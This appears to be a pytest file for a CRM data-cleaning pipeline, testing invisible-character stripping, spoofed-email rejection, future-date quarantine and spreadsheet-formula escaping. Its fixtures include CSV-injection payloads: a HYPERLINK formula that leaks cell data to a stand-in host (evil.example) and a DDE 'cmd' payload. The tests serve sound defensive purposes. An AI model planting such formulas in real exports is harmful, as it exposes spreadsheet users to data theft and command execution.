"""Hostile input: invisible and bidi characters, spoofed addresses, impossible dates, formulas."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from hygiene_pipeline.domain.emails import standardise_emails
from hygiene_pipeline.domain.feed_frames import FeedFrames
from hygiene_pipeline.domain.readers import read_feed
from hygiene_pipeline.domain.spreadsheet_safety import formula_like, spreadsheet_safe
from hygiene_pipeline.domain.standardise import (
    standardise_call_logs,
    standardise_crm_contacts,
    standardise_engagement_events,
)

AS_OF = pd.Timestamp("2026-06-30T12:00:00Z")
NOT_AFTER = AS_OF + pd.Timedelta(hours=24)


def batch(feed: str, rows: dict[str, list]) -> FeedFrames:
    count = len(next(iter(rows.values())))
    frame = pd.DataFrame(rows, dtype="object").assign(
        source_file="a.csv", row_number=range(1, count + 1)
    )
    return FeedFrames(feed=feed, accepted=frame, files=["a.csv"])


def contacts(**columns: list) -> FeedFrames:
    count = len(next(iter(columns.values())))
    ids = [f"C{i}" for i in range(count)]
    return batch("crm_contacts", {"contact_id": ids, "source_system": ["sf"] * count, **columns})


def test_invisible_and_bidi_characters_are_stripped_and_the_raw_value_kept() -> None:
    raw = contacts(
        first_name=["Jo\u200bhn", "Anna"],
        last_name=["\u202eht\u202cims", "Berg"],
        company=["Glo\ufeffbex\u2066", "Initech"],
    )
    staged = standardise_crm_contacts(raw, not_after=NOT_AFTER).accepted

    assert staged["first_name"].tolist() == ["John", "Anna"]
    assert staged["last_name"].tolist() == ["Htims", "Berg"]
    assert staged["company"].tolist() == ["Globex", "Initech"]
    assert staged["company_key"].tolist() == ["globex", "initech"]
    assert staged.loc[0, "first_name_raw"] == "Jo\u200bhn"
    assert staged.loc[0, "company_raw"] == "Glo\ufeffbex\u2066"
    assert staged["invisible_characters_stripped"].tolist() == [True, False]


@pytest.mark.parametrize(
    ("address", "error"),
    [
        ("j\u043ehn@example.com", "mixed scripts in the local part"),
        ("john@ex\u0430mple.com", "mixed scripts in the domain"),
        ("john@example.c\u043em", "mixed scripts in the top-level domain"),
        ("john@\u0430\u0440\u0440\u04cf\u0435.com", "imitates ASCII letters"),
    ],
)
def test_spoofed_internationalised_addresses_are_invalid(address: str, error: str) -> None:
    result = standardise_emails(pd.Series([address]))

    assert not result.loc[0, "email_valid"]
    assert result.loc[0, "email_key"] is None
    assert error in result.loc[0, "email_error"]


@pytest.mark.parametrize(
    "address", ["иван@пример.рф", "a@xn--e1afmkfd.xn--p1ai", "li@例子.中国", "josé@exämple.de"]
)
def test_proper_internationalised_addresses_stay_valid(address: str) -> None:
    assert standardise_emails(pd.Series([address])).loc[0, "email_valid"]


def test_call_after_as_of_plus_tolerance_is_quarantined_but_a_do_not_call_request_counts() -> None:
    raw = batch(
        "call_logs",
        {
            "phone_dialed": ["+14155550101", "+14155550102", "+14155550103"],
            "called_at": ["2026-07-01T06:00:00Z", "2099-01-01", "2099-01-01"],
            "disposition": ["connected", "connected", "do_not_call"],
        },
    )
    result = standardise_call_logs(raw, not_after=NOT_AFTER)

    assert result.accepted["phone_e164"].tolist() == ["+14155550101", "+14155550103"]
    assert result.rejected["reason"].tolist() == [
        "event time in the future: called_at 2099-01-01T00:00:00Z is after the batch's as-of "
        "time plus its tolerance (2026-07-01T12:00:00Z)"
    ]


def test_engagement_after_the_tolerance_is_quarantined_but_an_unsubscribe_counts() -> None:
    raw = batch(
        "engagement_events",
        {
            "email": ["a@x.com", "b@x.com", "c@x.com"],
            "event_type": ["email_click", "email_click", "unsubscribe"],
            "occurred_at": ["2026-06-30", "2031-05-05", "2031-05-05"],
        },
    )
    result = standardise_engagement_events(raw, not_after=NOT_AFTER)

    assert result.accepted["email"].tolist() == ["a@x.com", "c@x.com"]
    assert result.rejected["reason"].str.startswith("event time in the future: occurred_at").all()


def test_a_contact_keeps_its_row_but_loses_a_future_date() -> None:
    raw = contacts(
        first_name=["Ann", "Bo"],
        last_activity_at=["2099-12-31", "2026-06-01"],
        updated_at=["2099-12-31", "2026-06-01"],
        consent_expires_at=["2099-12-31", None],
        do_not_call=["yes", "no"],
    )
    result = standardise_crm_contacts(raw, not_after=NOT_AFTER)
    staged = result.accepted

    assert result.rejected.empty
    assert staged["last_activity_at"].isna().tolist() == [True, False]
    assert staged["future_dates"].tolist() == ["updated_at; last_activity_at", None]
    assert staged.loc[0, "consent_expires_at"] == pd.Timestamp("2099-12-31", tz="UTC")
    assert staged["do_not_call"].tolist() == [True, False]


def test_formula_values_are_flagged_in_staging_but_phones_are_phones() -> None:
    raw = contacts(
        first_name=['=HYPERLINK("http://evil.example/?"&A1,"click")', "Ann"],
        company=["+cmd|' /C calc'!A0", "@SUM(1+1)"],
        phone=["+44 20 7946 0000", "=1+1"],
        job_title=["- head of sales", "-"],
    )
    staged = standardise_crm_contacts(raw, not_after=NOT_AFTER).accepted

    assert staged["formula_columns"].tolist() == [
        "first_name; full_name; company; job_title; first_name_raw; company_raw",
        "company; company_raw; phone_raw",  # a lone "-" is no formula
    ]
    assert staged.loc[0, "phone_e164"] == "+442079460000"


def test_exports_neutralise_formulas_and_leave_numbers_alone() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=HYPERLINK(1)", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "Ann"],
            "phone": ["+44 20 7946 0000", "-12.50", "+1 (415) 555-0100", None, "1"],
            "rank": [1, 2, 3, 4, 5],
        }
    )
    safe = spreadsheet_safe(frame)

    assert safe["name"].tolist() == [
        "'=HYPERLINK(1)",
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3",
        "Ann",
    ]
    assert safe["phone"].equals(frame["phone"])
    assert safe["rank"].equals(frame["rank"])
    assert not formula_like(safe["name"]).any()


def test_formulas_in_carried_columns_of_a_read_file_are_flagged(tmp_path: Path) -> None:
    folder = tmp_path / "crm_contacts"
    folder.mkdir()
    (folder / "salesforce_contacts.csv").write_text(
        "Id,FirstName,LastName,Email,Custom Note\n"
        '1,Ann,Lee,ann@acme.test,"=HYPERLINK(""http://evil.example"",""x"")"\n'
        "2,Bob,Ray,bob@acme.test,call after lunch\n",
        encoding="utf-8",
    )
    raw = read_feed(tmp_path, "crm_contacts")
    staged = standardise_crm_contacts(raw, not_after=NOT_AFTER).accepted

    assert staged["formula_columns"].tolist() == ["custom_note", None]
    safe = spreadsheet_safe(raw.accepted)
    assert safe["custom_note"].tolist()[0].startswith("'=HYPERLINK")
